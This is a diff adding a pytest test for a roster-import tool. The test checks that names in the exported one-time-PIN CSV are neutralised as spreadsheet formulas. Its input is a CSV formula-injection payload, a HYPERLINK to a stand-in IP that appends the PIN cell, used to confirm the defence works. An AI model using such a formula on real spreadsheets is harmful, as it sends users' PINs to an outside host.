@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import csv
 import re
 import stat
 from pathlib import Path
@@ -65,6 +66,31 @@ def test_roster_import_dry_run_then_commit(runner: CliRunner, tmp_path: Path) ->
     assert stat.S_IMODE(pins.stat().st_mode) == 0o600
     assert re.search(r"^L1,Lu,\d{6}$", pins.read_text(), re.M)
     assert accounts.find_user(database, Role.LEARNER, "L2") is not None
+
+
+def test_roster_pins_file_keeps_names_as_text(runner: CliRunner, tmp_path: Path) -> None:
+    """The one-time PINs file is opened in a spreadsheet: a name can neither run a
+    formula nor shift the PIN into another column."""
+    data = tmp_path / "data"
+    run(runner, data, "init")
+    csv_file = tmp_path / "roster.csv"
+    formula = '=HYPERLINK("http://203.0.113.9/?"&C2,"Open me")'
+    csv_file.write_text(
+        "facility_id,name,language\n"
+        + 'L1,"'
+        + formula.replace('"', '""')
+        + '",en\n'
+        + 'L2,"Lee, Ann",es\n'
+    )
+    pins = tmp_path / "pins.csv"
+    run(runner, data, "roster", "import", str(csv_file), "--commit", "--pins-out", str(pins))
+    with pins.open(newline="", encoding="utf-8") as handle:
+        rows = list(csv.DictReader(handle))
+    assert [(r["facility_id"], r["name"]) for r in rows] == [
+        ("L1", "'" + formula),
+        ("L2", "Lee, Ann"),
+    ]
+    assert all(re.fullmatch(r"\d{6}", r["one_time_pin"]) for r in rows)
 
 
 def test_roster_with_problems_exits_non_zero(runner: CliRunner, tmp_path: Path) -> None:
